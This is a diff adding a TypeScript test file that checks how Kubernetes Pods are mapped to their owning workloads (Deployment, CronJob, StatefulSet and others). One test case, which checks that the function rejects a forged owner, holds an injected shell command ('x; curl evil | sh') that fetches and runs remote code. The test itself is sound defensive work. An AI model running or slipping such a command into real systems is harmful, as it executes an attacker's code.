@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest'
+import type { JsonObject } from '../../json/json.ts'
+import { workloadOfPod } from './workload.ts'
+
+const owned = (kind: string, name: string) => [{ apiVersion: 'v1', kind, name, uid: 'u', controller: true }]
+
+describe('the workload of a Pod', () => {
+  it.each<{ why: string; metadata: JsonObject; workload: string }>([
+    {
+      why: 'is the Deployment of its ReplicaSet',
+      metadata: {
+        generateName: 'web-5f4cf-',
+        labels: { 'pod-template-hash': '5f4cf' },
+        ownerReferences: owned('ReplicaSet', 'web-5f4cf'),
+      },
+      workload: 'Deployment/web',
+    },
+    {
+      why: 'is a ReplicaSet that somebody else made',
+      metadata: { ownerReferences: owned('ReplicaSet', 'web-5f4cf') },
+      workload: 'ReplicaSet/web-5f4cf',
+    },
+    {
+      why: 'is the CronJob of its Job',
+      metadata: { ownerReferences: owned('Job', 'backup-29112340') },
+      workload: 'CronJob/backup',
+    },
+    {
+      why: 'is a Job by itself',
+      metadata: { ownerReferences: owned('Job', 'migrate-42') },
+      workload: 'Job/migrate-42',
+    },
+    {
+      why: 'is its StatefulSet',
+      metadata: { name: 'db-0', ownerReferences: owned('StatefulSet', 'db') },
+      workload: 'StatefulSet/db',
+    },
+    { why: 'is the Pod itself', metadata: { name: 'alone' }, workload: 'Pod/alone' },
+    {
+      why: 'is the Pod itself if its owner does not control it',
+      metadata: { name: 'alone', ownerReferences: [{ kind: 'Node', name: 'n', uid: 'u' }] },
+      workload: 'Pod/alone',
+    },
+    {
+      why: 'is the name that the API server completes',
+      metadata: { generateName: 'run-' },
+      workload: 'Pod/run-',
+    },
+    {
+      why: 'is the same after the API server has completed the name',
+      metadata: { generateName: 'run-', name: 'run-x7k2p' },
+      workload: 'Pod/run-',
+    },
+    {
+      why: 'is the Pod itself if the name of its owner is forged',
+      metadata: { name: 'alone', ownerReferences: owned('ReplicaSet', 'x; curl evil | sh') },
+      workload: 'Pod/alone',
+    },
+    { why: 'has no name without metadata', metadata: {}, workload: 'Pod/' },
+  ])('$why: $workload', ({ metadata, workload }) => {
+    const { kind, name } = workloadOfPod({ metadata })
+    expect(`${kind}/${name}`).toBe(workload)
+  })
+})
